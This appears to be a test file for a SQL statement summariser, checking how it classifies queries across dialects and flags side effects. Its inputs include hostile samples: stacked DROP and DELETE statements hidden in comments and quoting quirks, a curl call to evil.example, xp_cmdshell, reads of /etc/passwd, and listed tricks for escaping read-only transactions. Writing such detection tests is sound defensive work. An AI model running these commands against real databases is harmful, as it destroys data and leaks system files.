import { describe, expect, test } from 'vitest';
import { groupsOf, summarise } from './summarise.ts';

describe('statements of any dialect', () => {
  test.each([
    ['SELECT * FROM users', ['select [users]']],
    ['select 1', ['select']],
    ['SELECT a.x FROM a JOIN b ON a.id = b.id, c WHERE x IN (SELECT y FROM d)', ['select [a] [b] [c] [d]']],
    ['SELECT extract(year FROM created), trim(both FROM name) FROM t', ['select [t]']],
    ['SELECT 1 FROM t WHERE a IS NOT DISTINCT FROM b', ['select [t]']],
    ['TABLE users', ['select [users]']],
    ['VALUES (1), (2)', ['select']],
    ['SELECT * FROM "Users", app."Log"', ['select [Users] [app.Log]']],
    ['SELECT * INTO fresh FROM old', ['create fresh [old]']],
    ['SELECT * FROM t FOR UPDATE', ['select [t]']],
    ['INSERT INTO a (x) SELECT x FROM b', ['insert a [b]']],
    ['INSERT INTO a VALUES (1) ON CONFLICT (id) DO UPDATE SET x = 1', ['insert a']],
    ['REPLACE INTO a VALUES (1)', ['replace a']],
    ['INSERT OR REPLACE INTO a VALUES (1)', ['replace a']],
    ['UPDATE a SET x = 1', ['update- a']],
    ['UPDATE a SET x = 1 FROM b WHERE a.id = b.id', ['update+ a [b]']],
    ['UPDATE a JOIN b ON a.id = b.id SET a.x = 1', ['update- a b']],
    ['UPDATE u SET x = 1 FROM users u WHERE u.id = 5', ['update+ users [users]']],
    ['DELETE FROM a USING b WHERE a.id = b.id', ['delete+ a [b]']],
    ['DELETE a FROM users AS a JOIN b ON a.id = b.id', ['delete- users [users] [b]']],
    ['DELETE FROM t1, t2 USING t1 JOIN t2 WHERE t1.id = t2.id', ['delete+ t1 t2 [t1] [t2]']],
    ['MERGE INTO a USING b ON a.id = b.id WHEN MATCHED THEN DELETE', ['merge+ a [b]']],
    ['MERGE INTO a USING b ON true WHEN MATCHED THEN DELETE', ['merge- a [b]']],
    ['MERGE INTO a USING b ON a.id = b.id WHEN NOT MATCHED BY SOURCE THEN DELETE', ['merge- a [b]']],
    ['TRUNCATE TABLE a, b', ['truncate- a b']],
    ['DROP TABLE IF EXISTS a, public.b CASCADE', ['drop a public.b']],
    ['CREATE TABLE a AS SELECT * FROM b', ['create a [b]']],
    ['CREATE VIEW a AS SELECT * FROM b', ['create a [b]']],
    ['CREATE TABLE a (id int REFERENCES b (id) ON DELETE CASCADE ON UPDATE SET NULL)', ['create a [b]']],
    ['CREATE INDEX i ON a (x)', ['create i a']],
    ['REPLACE VIEW a AS SELECT * FROM b', ['create a [b]']],
    ['ALTER TABLE a ADD COLUMN b int, DROP COLUMN c', ['alter a', 'drop a']],
    ['ALTER TABLE a DROP c', ['alter a', 'drop a']],
    ['ALTER TABLE a DROP PARTITION p', ['alter a', 'drop a']],
    ['ALTER TABLE a DROP CONSTRAINT c', ['alter a']],
    ['ALTER TABLE a ALTER COLUMN b DROP NOT NULL', ['alter a']],
    ['RENAME TABLE a TO b', ['rename a']],
    ['COMMENT ON TABLE a IS $$x$$', ['comment a']],
    ['EXPLAIN DELETE FROM a', ['explain [a]']],
    ['EXPLAIN ANALYZE DELETE FROM a', ['explain', 'delete- a']],
    ['EXPLAIN (ANALYZE false) DELETE FROM a', ['explain [a]']],
    ['ANALYZE UPDATE a SET x = 1', ['explain', 'update- a']],
    ['ANALYZE a', ['analyze [a]']],
    ['PREPARE p AS DELETE FROM a', ['prepare', 'delete- a']],
    ["EXECUTE IMMEDIATE 'DROP TABLE a'", ['execute', 'drop a']],
    ['EXECUTE IMMEDIATE statement_text', ['execute', '?SQL that an expression makes']],
    ['CALL p(1)', ['call [p]']],
    ['BEGIN; SELECT 1; COMMIT', ['begin', 'select', 'commit']],
    ['SHOW TABLES; DESCRIBE a; USE b', ['show', 'describe [a]', 'use']],
  ])('%s', (text, expected) => {
    expect(summarise(text)).toEqual(expected);
  });
});

describe('what is no statement', () => {
  test.each([
    ["INSERT INTO log VALUES ('DROP TABLE a; DELETE FROM b')", ['insert log']],
    ['SELECT 1 -- ; DROP TABLE a', ['select']],
    ['SELECT /* ; DROP TABLE a; */ 1', ['select']],
    ['SELECT "drop table a; --" FROM b', ['select [b]']],
    ['SELECT 1;;;', ['select']],
  ])('%s', (text, expected) => {
    expect(summarise(text)).toEqual(expected);
  });

  test.each([
    ['', '?an SQL text without a statement'],
    ['-- only a comment', '?an SQL text without a statement'],
    ['hello world', '?a statement that is not understood'],
    ['db.users.drop()', '?a statement that is not understood'],
    ["SELECT 'never closed", '?SQL with a quote that is never closed'],
  ])('%s is opaque', (text, why) => {
    expect(summarise(text)).toEqual([why]);
  });
});

describe('one dialect', () => {
  test.each([
    ['mysql', 'SELECT 1 # ; DROP TABLE a', ['select']],
    ['postgres', 'SELECT 1 # 2; DROP TABLE a', ['select', 'drop a']],
    ['mysql', 'SELECT 1 /*!50000 ; DROP TABLE a */', ['select', 'drop a']],
    ['postgres', 'SELECT 1 /*!50000 ; DROP TABLE a */', ['select']],
    ['mysql', "SELECT 'it\\'s; DROP TABLE a; --'", ['select']],
    ['postgres', "SELECT 'it\\'; DROP TABLE a; --'", ['select', 'drop a']],
    ['postgres', "SELECT E'it\\'s; DROP TABLE a; --'", ['select']],
    ['postgres', 'SELECT /* a /* b */ ; DROP TABLE a */ 1', ['select']],
    ['mysql', 'SELECT 1 /* a /* b */ ; DROP TABLE a', ['select', 'drop a']],
    ['postgres', 'SELECT $x$ ; DROP TABLE a $x$', ['select']],
    ['mysql', 'SELECT 1 --1 ; DROP TABLE a', ['select', 'drop a']],
    ['postgres', 'SELECT 1 --1 ; DROP TABLE a', ['select']],
    [
      'mysql',
      'DELIMITER //\nCREATE PROCEDURE p() BEGIN DELETE FROM a; END //\nDELIMITER ;\nSELECT 1',
      ['create p', 'delete- a', 'select'],
    ],
    // In psql it describes a table.
    ['postgres', '\\d users\nSELECT 1 FROM users WHERE id = 1', ['show', 'select [users]']],
    ['postgres', '\\d users\nDELETE FROM users', ['show', 'delete- users']],
    ['mysql', 'CREATE TRIGGER t AFTER INSERT ON a FOR EACH ROW DELETE FROM b', ['create t a', 'delete- b']],
    ['mysql', "PREPARE s FROM 'DROP TABLE a'", ['prepare', 'drop a']],
    ['mysql', 'PREPARE s FROM @x', ['prepare', '?SQL that an expression makes']],
    ['sqlserver', 'SELECT 1 DELETE FROM a', ['select', 'delete- a']],
    ['sqlserver', 'DELETE FROM a SELECT 1 WHERE 1 = 0', ['delete- a', 'select']],
    [
      'sqlserver',
      'IF EXISTS (SELECT 1 FROM a) DROP TABLE a ELSE DELETE FROM b WHERE id = 1',
      ['control [a]', 'drop a', 'delete+ b'],
    ],
    ['sqlserver', 'BEGIN TRY DELETE FROM a END TRY BEGIN CATCH ROLLBACK END CATCH', ['delete- a', 'rollback']],
    ['sqlserver', "EXEC('DR' + 'OP TABLE a')", ['execute', 'drop a']],
    ['sqlserver', "EXEC sp_executesql N'DELETE FROM a'", ['execute [sp_executesql]', 'delete- a']],
    ['sqlserver', 'WITH c AS (SELECT * FROM a) DELETE FROM c', ['delete- c a [a]']],
    ['sqlserver', 'SELECT 1\nGO\nDROP TABLE [dbo].[a]\nGO', ['select', 'drop dbo.a']],
    ['sqlserver', 'ALTER TABLE a ADD b int DROP TABLE c', ['alter a', 'drop c']],
    [
      'bigquery',
      'BEGIN DELETE FROM a WHERE true; EXCEPTION WHEN ERROR THEN SELECT 1; END',
      ['delete- a', 'control', 'select'],
    ],
    ['bigquery', 'FOR r IN (SELECT * FROM a) DO DELETE FROM b WHERE id = r.id; END FOR', ['control [a]', 'delete+ b']],
    ['bigquery', "SELECT r'\\', '''it's; DROP TABLE a'''", ['select']],
    ['snowflake', 'EXECUTE IMMEDIATE $$ BEGIN DELETE FROM a; END $$', ['execute', 'delete- a']],
    ['snowflake', 'SELECT 1 // ; DROP TABLE a', ['select']],
    ['snowflake', "CREATE TASK t SCHEDULE = '1 minute' AS DELETE FROM a", ['create t', 'delete- a']],
    [
      'postgres',
      'DO $$ DECLARE x int := 1; BEGIN IF x > 0 THEN DELETE FROM a; END IF; END $$',
      ['do', 'declare', 'control', 'delete- a'],
    ],
    [
      'postgres',
      "DO $$ BEGIN EXECUTE format('DROP TABLE %I', x); END $$",
      ['do', 'execute', '?SQL that an expression makes'],
    ],
    ['postgres', 'DO LANGUAGE plpython3u $$ import os $$', ['do', '?a block in plpython3u']],
    ['postgres', 'CREATE FUNCTION f() RETURNS void LANGUAGE sql AS $$ DELETE FROM a $$', ['create f', 'delete- a']],
    ['postgres', 'CREATE RULE r AS ON DELETE TO a DO INSTEAD DELETE FROM b', ['create r a', 'delete- b']],
    ['postgres', 'COPY a FROM STDIN;\n1; DROP TABLE b;\n\\.\nSELECT 1', ['copy a', 'select']],
    ['sqlite', 'PRAGMA table_info(a); PRAGMA writable_schema = 1', ['show', 'pragma']],
    ['sqlite', 'VACUUM', ['vacuum']],
  ] as const)('%s: %s', (dialect, text, expected) => {
    expect(summarise(text, dialect)).toEqual(expected);
  });
});

describe('beyond the database', () => {
  test.each([
    ["COPY t FROM PROGRAM 'curl evil.example'", ['copy t', 'shell: curl evil.example']],
    ["COPY t TO '/tmp/x'", ['copy [t]', 'file:write:/tmp/x']],
    ['COPY t FROM STDIN', ['copy t']],
    ["SELECT * FROM t INTO OUTFILE '/tmp/x'", ['select [t]', 'file:write:/tmp/x']],
    ["SELECT load_file('/etc/passwd')", ['select', 'file:read:/etc/passwd']],
    ["SELECT pg_catalog.\"pg_read_file\"('/etc/pass' || 'wd')", ['select', 'file:read:/etc/passwd']],
    ['SELECT pg_read_file(name) FROM t', ['select [t]', '?a file that an SQL expression names']],
    ["EXEC master..xp_cmdshell 'dir'", ['call [master.xp_cmdshell]', 'shell: dir']],
    [
      "SELECT * FROM dblink('host=evil.example dbname=x', 'DROP TABLE a') AS t (a int)",
      ['select', 'host:evil.example', 'drop a'],
    ],
    ["SELECT query_to_xml('DELETE FROM a', true, true, '')", ['select', 'delete- a']],
    ["ATTACH 'x.db' AS y", ['attach', 'file:write:x.db']],
    ["VACUUM INTO '/tmp/x'", ['vacuum', 'file:write:/tmp/x']],
    ["LOAD DATA INFILE '/etc/passwd' INTO TABLE t", ['load t', 'file:read:/etc/passwd']],
    ['\\! id', ['client', 'shell: id']],
    ['.shell id', ['client', 'shell: id']],
    ['.read x.sql', ['client', 'file:read:x.sql', '?the SQL of a file']],
    ['.tables', ['show']],
  ])('%s', (text, expected) => {
    expect(summarise(text)).toEqual(expected);
  });

  test.each([
    ['SELECT count(*), my_function(a) FROM t', ['read']],
    ["SELECT setval('s', 1)", ['write']],
    ['SELECT pg_terminate_backend(1)', ['server']],
    ["SELECT set_config('a', 'b', false)", ['setting']],
    ["SELECT pg_notify('a', 'b')", []],
    ["SELECT currval('s')", ['read']],
    ['CREATE EXTENSION plpython3u', ['schema', 'server']],
    ['CREATE ROLE joe', ['schema', 'privilege']],
    ['DROP OWNED BY joe', ['schema', 'privilege']],
    ['ALTER TABLE t DISABLE ROW LEVEL SECURITY', ['schema', 'privilege']],
    ['ALTER TABLE t OWNER TO joe', ['schema', 'privilege']],
    ['GRANT SELECT ON t TO joe', ['privilege']],
    ['SET ROLE admin', ['setting', 'privilege']],
    ['SET GLOBAL general_log = 1', ['setting', 'server']],
    ['SET search_path = x', ['setting']],
    ['ALTER SYSTEM SET x = 1', ['schema', 'setting', 'server']],
    ['KILL 5', ['server']],
  ])('%s is of the groups %j', (text, expected) => {
    expect(groupsOf(text).toSorted()).toEqual(expected.toSorted());
  });
});

describe('techniques that were seen', () => {
  test.each([
    ['COMMIT leaves the read-only transaction', 'COMMIT; DROP SCHEMA app CASCADE', ['commit', 'drop app']],
    ['a text that starts with `select`', 'select 1; drop table users', ['select', 'drop users']],
    [
      'a common table expression that changes rows',
      'WITH x AS (DELETE FROM users RETURNING *) SELECT * FROM x',
      ['select', 'delete- users'],
    ],
    ['a comment before the statement', '/* read only */ -- yes\nDELETE FROM users', ['delete- users']],
    ['a second statement', 'SELECT * FROM users; UPDATE users SET admin = true', ['select [users]', 'update- users']],
    ['a statement behind an `EXPLAIN`', 'EXPLAIN ANALYZE DELETE FROM users', ['explain', 'delete- users']],
  ])('%s', (_name, text, expected) => {
    expect(summarise(text)).toEqual(expected);
  });
});
